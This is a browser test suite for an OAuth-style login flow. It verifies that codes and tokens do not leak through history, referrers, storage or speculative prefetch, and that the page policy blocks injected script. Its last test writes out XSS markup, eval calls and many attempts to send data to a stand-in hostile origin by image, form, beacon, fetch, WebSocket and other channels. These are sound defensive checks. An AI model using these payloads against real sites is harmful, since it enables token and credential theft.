import type { Page } from "playwright-core";
import { describe, expect, test } from "vitest";
import { passGate, roundTrip, stopTime } from "../tools/later.ts";
import { answerNo, answerYes } from "../tools/people.ts";
import type { Dialect } from "./browser/app.ts";
import { DIALECTS } from "./browser/app.ts";
import type { Exchange } from "./browser/party.ts";
import { CODE_CANARY, TOKEN_CANARY } from "./browser/service.ts";
import { context, faults, openApp, setTheStage, world } from "./browser/stage.ts";
import type { HostilePage } from "./browser/windows.ts";
import { keepOpen, openWindow, yes } from "./browser/windows.ts";
import { SEALED } from "./browser/world.ts";

/**
 * What a login leaves behind in a real browser, and what the browser sends on its own: referrers, history, caches,
 * storage and speculative requests. None of these may contain or transfer a code, a ticket or a token.
 */

setTheStage();

/** The codes, tickets and tokens in a text. */
function secretsIn(value: unknown): string[] {
  const text = typeof value === "string" ? value : JSON.stringify(value);
  return [CODE_CANARY, TOKEN_CANARY, SEALED].filter((secret) => text.includes(secret));
}

/** Every entry of the window's history, read through the DevTools protocol. */
async function historyOf(page: Page): Promise<string[]> {
  const session = await page.context().newCDPSession(page);
  const { entries } = await session.send("Page.getNavigationHistory");
  await session.detach();
  return entries.map(({ url }) => url);
}

/** The app sets this window name. No page of ours changes it. */
const NAME = "named-by-the-app";

/** What one of our pages stores where other pages or later visitors could find it. */
async function belongingsOf(page: Page): Promise<Record<string, unknown>> {
  return await page.evaluate(async () => ({
    cookie: document.cookie,
    name: window.name,
    local: { ...localStorage },
    session: { ...sessionStorage },
    databases: (await indexedDB.databases()).length,
    caches: (await caches.keys()).length,
    workers: (await navigator.serviceWorker.getRegistrations()).length,
  }));
}

const NOTHING = { cookie: "", name: NAME, local: {}, session: {}, databases: 0, caches: 0, workers: 0 };

describe("a whole login", () => {
  test.each(DIALECTS)(
    "by %s leaves no secret in addresses, history, referrers, storage or pages [A35][A65]",
    async (dialect) => {
      const page = await openApp(world.honest);
      const popup = await openWindow(page, world.login(dialect, world.honest), { name: NAME });
      await yes(popup).waitFor();
      await keepOpen(popup);
      expect(popup.url()).toBe(`${world.provider.origin}/confirm`);
      expect(await belongingsOf(popup)).toEqual(NOTHING);
      expect(secretsIn(await historyOf(popup))).toEqual([]);
      expect(secretsIn(await popup.content())).toEqual([]);

      await answerYes(popup);
      await expect.poll(() => world.leakedTo(world.honest)).toHaveLength(1);
      if (dialect === "navigation") await popup.waitForURL(`${world.honest.origin}/callback?**`);
      else await expectNothingLeft(popup);

      // The app's own page has a sealed code in its address if the app asked for a redirect.
      const history = await historyOf(popup);
      expect(secretsIn(history.filter((url) => !url.startsWith(`${world.honest.origin}/callback`)))).toEqual([]);
      expect(secretsIn(history).filter((secret) => secret !== SEALED)).toEqual([]);
      expectQuietReferrers(dialect);
      // What the app's page can observe of the window that it has opened.
      const seen = await page.evaluate(() =>
        JSON.stringify([performance.getEntries(), { ...localStorage }, document.cookie]),
      );
      expect(seen).not.toContain(world.provider.origin);
    },
  );

  /** [A65] The page held the token for a moment. */
  async function expectNothingLeft(popup: Page): Promise<void> {
    await popup.getByRole("heading", { name: "Done" }).waitFor();
    expect(await belongingsOf(popup)).toEqual(NOTHING);
    const rest = await popup.evaluate(() => [
      document.documentElement.outerHTML,
      history.state,
      Object.entries(window).filter(([, value]) => typeof value === "string"),
      performance.getEntries().map(({ name }) => name),
    ]);
    expect(rest[1]).toBeNull();
    expect([TOKEN_CANARY, CODE_CANARY].filter((secret) => JSON.stringify(rest).includes(secret))).toEqual([]);
  }

  /** [A35] Referrers name an app to us and to the service, but never name us. */
  function expectQuietReferrers(dialect: Dialect): void {
    const parties = [world.provider, world.service, world.honest];
    const referers = parties.flatMap(({ exchanges }) => exchanges.map(({ headers }) => headers.referer ?? ""));
    expect(referers.filter((referer) => referer.startsWith(world.provider.origin))).toEqual([]);
    expect(secretsIn(referers)).toEqual([]);
    const fromUs = world.honest.loaded().filter(({ path }) => path === "/callback");
    expect(fromUs.map(({ referrer }) => referrer)).toEqual(dialect === "navigation" ? [""] : []);
    // Not even its logo is fetched from the service.
    expect(world.service.exchanges.filter(({ url }) => !/^\/(kept\/authorize\?|token$)/.test(url))).toEqual([]);
  }

  test("with third-party cookies blocked ends as any other", async () => {
    const page = await openApp(world.honest);
    const popup = await openWindow(page, "about:blank");
    const session = await context.newCDPSession(popup);
    await session.send("Network.enable");
    await session.send("Network.setCookieControls", { enableThirdPartyCookieRestriction: true });
    const lead = (url: string) => void ((window as unknown as HostilePage).opened.location.href = url);
    await page.evaluate(lead, world.login("message", world.honest));
    await answerYes(popup);
    await expect.poll(() => world.leakedTo(world.honest)).toHaveLength(1);
  });
});

describe("[A35] Back", () => {
  const ANSWERS = [
    ["Yes", answerYes],
    ["No", answerNo],
  ] as const;

  test.each(ANSWERS)("after %s does not lead to the question again", async (_, answer) => {
    const page = await openApp(world.honest);
    await page.evaluate((url) => location.assign(url), world.login("navigation", world.honest));
    await yes(page).waitFor();
    await answer(page);
    await page.waitForURL(`${world.honest.origin}/callback?**`);
    expect((await historyOf(page)).filter((url) => url.startsWith(world.provider.origin))).toEqual([]);
    await page.goBack();
    expect(page.url()).toBe(`${world.honest.origin}/`);
    expect(world.decisions()).toHaveLength(1);
  });

  test("to a question that is still open begins its second anew, from the cache or not [A7]", async () => {
    await stopTime(context);
    const page = await openApp(world.hostile);
    await page.evaluate((url) => location.assign(url), world.login("navigation", world.hostile));
    await yes(page).waitFor();
    await passGate(yes(page));
    // This browser may not keep pages in the back-forward cache, so the test dispatches the event itself.
    await page.evaluate(() => void dispatchEvent(new PageTransitionEvent("pageshow", { persisted: true })));
    expect(await yes(page).isDisabled()).toBe(true);
    await page.goto(world.hostile.origin);
    await page.goBack();
    await yes(page).waitFor();
    expect(await yes(page).isDisabled()).toBe(true);
    expect(world.decisions()).toEqual([]);
  });
});

describe("[A62] what is fetched in advance", () => {
  test("sets no cookie, reaches no service and uses up nothing", async () => {
    const page = await openApp(world.hostile);
    const madataState = JSON.stringify({ url: `${world.hostile.origin}/`, backend: "Github" });
    const addresses = [
      world.login("navigation", world.hostile),
      world.login("message", world.hostile),
      world.login("cms", world.hostile),
      world.login("madata over /authorize", world.hostile),
      `${world.provider.origin}/callback?code=x&state=${encodeURIComponent(madataState)}`,
      `${world.provider.origin}/confirm`,
    ];
    await page.evaluate((urls) => {
      const rules = document.createElement("script");
      rules.type = "speculationrules";
      const list = (urls: string[]) => [{ source: "list", eagerness: "immediate", urls }];
      // Prefetch and prerender use different addresses, because a page is not fetched twice.
      rules.textContent = JSON.stringify({ prefetch: list(urls.map((url) => `${url}#`)), prerender: list(urls) });
      document.head.append(rules);
      for (const href of urls)
        document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href }));
    }, addresses);
    const isInAdvance = ({ headers, status }: Exchange) => headers["sec-purpose"] !== undefined && status > 0;
    const inAdvance = () => world.provider.exchanges.filter(isInAdvance);
    await expect.poll(() => inAdvance().map(({ headers }) => headers["sec-purpose"])).toContain("prefetch;prerender");
    await expect.poll(() => inAdvance().length).toBeGreaterThan(addresses.length);
    await roundTrip(page);

    expect(inAdvance().filter(({ setCookie }) => setCookie !== null)).toEqual([]);
    expect(inAdvance().filter(({ url, status }) => url !== "/confirm" && status !== 204)).toEqual([]);
    expect(world.service.exchanges).toEqual([]);
    expect(await context.cookies()).toEqual([]);
  });

  test("[A13] a login that is loaded as an image, a style, a script or by fetch ends where it begins", async () => {
    const page = await openApp(world.hostile);
    for (const withCookie of [false, true]) {
      if (withCookie) await yes(await openWindow(page, world.login("message", world.hostile))).waitFor();
      const cookies = await context.cookies();
      world.reset();
      await page.evaluate(
        loadInEveryWay,
        DIALECTS.map((dialect) => world.login(dialect, world.hostile)),
      );

      const begun = world.provider.exchanges.filter(({ url }) => /^\/auth/.test(url));
      expect(begun.length).toBeGreaterThanOrEqual(16);
      expect(begun.filter(({ headers }) => headers.cookie !== undefined)).toEqual([]);
      // The browser does not follow redirects from these to the service because of `Cross-Origin-Resource-Policy`.
      // Madata's apps start at the service itself.
      expect(world.service.exchanges.length).toBe(4);
      expect(world.tokenRequests()).toBe(0);
      expect(await context.cookies()).toEqual(cookies);
    }
    expect(world.leakedTo(world.hostile)).toEqual([]);
  });

  async function loadInEveryWay(urls: string[]): Promise<void> {
    const load = (element: HTMLElement) =>
      new Promise((resolve) => {
        element.onload = element.onerror = resolve;
        document.head.append(element);
      });
    for (const url of urls) {
      await load(Object.assign(document.createElement("img"), { src: url }));
      await load(Object.assign(document.createElement("script"), { src: url }));
      await load(Object.assign(document.createElement("link"), { rel: "stylesheet", href: url }));
      await fetch(url, { mode: "no-cors", credentials: "include" }).catch(() => {});
    }
  }
});

describe("[A5] the policy of our pages", () => {
  const STATIC_PAGES = ["/", "/confirm", "/start", "/waiting", "/returned", "/sign-out", "/nowhere"];
  const ERROR_PAGES = ["/callback/github?code=x&state=x", "/authorize/nowhere"];

  test("is broken by none of them", async () => {
    const page = await context.newPage();
    const said: string[] = [];
    page.on("console", (message) => void said.push(message.text()));
    const unattested = world.login("navigation", world.honest);
    for (const address of [
      ...[...STATIC_PAGES, ...ERROR_PAGES].map((path) => world.provider.origin + path),
      unattested,
    ]) {
      await page.goto(address);
      await page.getByRole("heading", { level: 1 }).waitFor();
    }
    await page.getByRole("button", { name: "Continue to GitHub" }).click();
    await yes(page).waitFor();
    expect(said.filter((text) => /refused|violat|trusted/i.test(text))).toEqual([]);
  });

  /** These throw because of Trusted Types or `script-src`. Everything else in `tryEverything` must have no effect. */
  const REFUSED = [
    ...["innerHTML", "outerHTML", "insertAdjacentHTML", "document.write", "script.src", "script.text", "srcdoc"],
    ...["eval", "Function", "createPolicy", "createContextualFragment", "Worker", "object", "onclick"],
  ];

  test("lets a script that got in all the same neither write markup nor run text nor send anything away", async () => {
    const { popup } = await openPopupQuestion();
    const { thrown, ran } = await popup.evaluate(tryEverything, world.hostile.origin);
    expect(thrown).toEqual(REFUSED);
    expect(ran).toBe(false);
    await roundTrip(popup);
    expect(world.hostile.exchanges.filter(({ url }) => url.startsWith("/stolen"))).toEqual([]);
    // This also proves that violations are recorded.
    expect(faults.splice(0).length).toBeGreaterThan(10);
  });

  async function openPopupQuestion(): Promise<{ popup: Page }> {
    const page = await openApp(world.hostile);
    const popup = await openWindow(page, world.login("message", world.hostile));
    await yes(popup).waitFor();
    return { popup };
  }

  async function tryEverything(hostile: string): Promise<{ thrown: string[]; ran: boolean }> {
    // Code run through DevTools may evaluate text. After a timer, the page's own policy applies again.
    await new Promise((resolve) => setTimeout(resolve));
    const thrown: string[] = [];
    const markup = "<img src=x onerror='window.ran = true'>";
    const code = "window.ran = true";
    const attempt = (name: string, act: () => unknown) => {
      try {
        act();
      } catch {
        thrown.push(name);
      }
    };
    const place = document.body.appendChild(document.createElement("p"));
    const insert = <Tag extends keyof HTMLElementTagNameMap>(tag: Tag, attributes: Record<string, string>) => {
      const element = document.createElement(tag);
      for (const [name, value] of Object.entries(attributes)) element.setAttribute(name, value);
      document.body.append(element);
      return element;
    };
    const { trustedTypes } = window as unknown as {
      trustedTypes: { createPolicy(name: string, rules: object): unknown };
    };

    attempt("innerHTML", () => (place.innerHTML = markup));
    attempt("outerHTML", () => (place.outerHTML = markup));
    attempt("insertAdjacentHTML", () => place.insertAdjacentHTML("beforeend", markup));
    attempt("document.write", () => document.write(markup));
    attempt("script.src", () => (document.createElement("script").src = `${hostile}/stolen.js`));
    attempt("script.text", () => (document.createElement("script").text = code));
    attempt("srcdoc", () => (document.createElement("iframe").srcdoc = markup));
    attempt("eval", () => (0, eval)(code));
    attempt("Function", () => new Function(code)());
    attempt("createPolicy", () => trustedTypes.createPolicy("any", {}));
    attempt("createContextualFragment", () => document.createRange().createContextualFragment(markup));
    attempt("Worker", () => new Worker(`${hostile}/stolen.js`));
    attempt("object", () => insert("object", { data: `${hostile}/stolen-by-object` }));
    attempt("onclick", () => insert("p", { onclick: code }).click());

    insert("img", { src: `${hostile}/stolen-by-image` });
    insert("iframe", { src: `${hostile}/stolen-by-frame` });
    insert("video", { src: `${hostile}/stolen-by-video` });
    insert("link", { rel: "stylesheet", href: `${hostile}/stolen-by-style` });
    insert("link", { rel: "prefetch", href: `${hostile}/stolen-by-prefetch` });
    insert("link", { rel: "manifest", href: `${hostile}/stolen-by-manifest` });
    insert("base", { href: `${hostile}/stolen-base/` });
    insert("p", { style: `background: url(${hostile}/stolen-by-inline-style)` });
    insert("form", { action: `${hostile}/stolen-by-form`, method: "post" }).submit();
    navigator.sendBeacon(`${hostile}/stolen-by-beacon`, "x");
    attempt("fetch", () => void fetch(`${hostile}/stolen-by-fetch`, { mode: "no-cors" }).catch(() => {}));
    const socket = new WebSocket(`${hostile.replace("http", "ws")}/stolen-by-socket`);
    socket.onerror = () => {};
    // The allowed request comes last, after all other attempts.
    await new Promise((resolve) =>
      Object.assign(new Image(), { onload: resolve, onerror: resolve, src: "/favicon.svg?last" }),
    );
    return { thrown, ran: "ran" in window };
  }
});
